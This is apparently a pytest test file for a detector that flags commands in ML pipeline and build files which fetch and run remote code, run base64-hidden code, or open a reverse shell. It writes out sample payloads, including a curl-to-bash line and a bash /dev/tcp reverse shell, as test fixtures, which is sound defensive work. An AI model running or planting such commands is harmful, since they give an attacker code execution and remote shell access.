"""Commands in scripts and pipelines that fetch and run, or hide what they run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.checks.models.building import judged, look

FETCH = "curl -fsSL https://x/y | bash"
HIDE = "echo aGk= | base64 -d | sh"
CONNECT = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"


def verdicts(text, name):
    return [(each.rule, each.severity.value) for each in judged(look(text.encode(), name))]


@pytest.mark.parametrize(
    ("name", "pattern", "severity"),
    [
        ("dvc.yaml", "stages:\n  a:\n    cmd: {}\n", "medium"),
        ("MLproject", 'entry_points:\n  main:\n    command: "{}"\n', "medium"),
        ("devcontainer.json", '{{"postCreateCommand": "{}"}}', "medium"),
        ("pyproject.toml", "[tool.x]\nrun = '{}'\n", "medium"),
        ("Dockerfile", "FROM x\nRUN {}\n", "info"),
        ("Dockerfile.gpu", "FROM x\nRUN a && \\\n    {}\n", "info"),
        ("Makefile", "all:\n\t{}\n", "info"),
        ("install.sh", "#!/bin/sh\n{}\n", "info"),
        ("install", "#!/usr/bin/env bash\n{}\n", "info"),
    ],
)
def test_commands(name, pattern, severity):
    assert verdicts(pattern.format(FETCH), name) == [("MLG-CMD-001", severity)]
    assert verdicts(pattern.format(HIDE), name) == [("MLG-CMD-001", "high")]
    assert verdicts(pattern.format(CONNECT), name) == [("MLG-CMD-001", "high")]
    assert verdicts(pattern.format("python train.py | tee log && curl -O https://x/y"), name) == []


@pytest.mark.parametrize("name", ["README.md", "notes.txt", "prompts.json", "data.jsonl", "tokenizer.json"])
def test_what_only_speaks_of_commands(name):
    assert verdicts(f'{{"text": "{CONNECT}"}}\n', name) == []


def test_comments_are_no_commands():
    assert verdicts(f"#!/bin/sh\n# {FETCH}\n", "a.sh") == []


@given(st.text(alphabet="curl base64 -d|sh/dev/tcp\n\\", max_size=300))
def test_any_text(text):
    look(text.encode(), "a.sh")
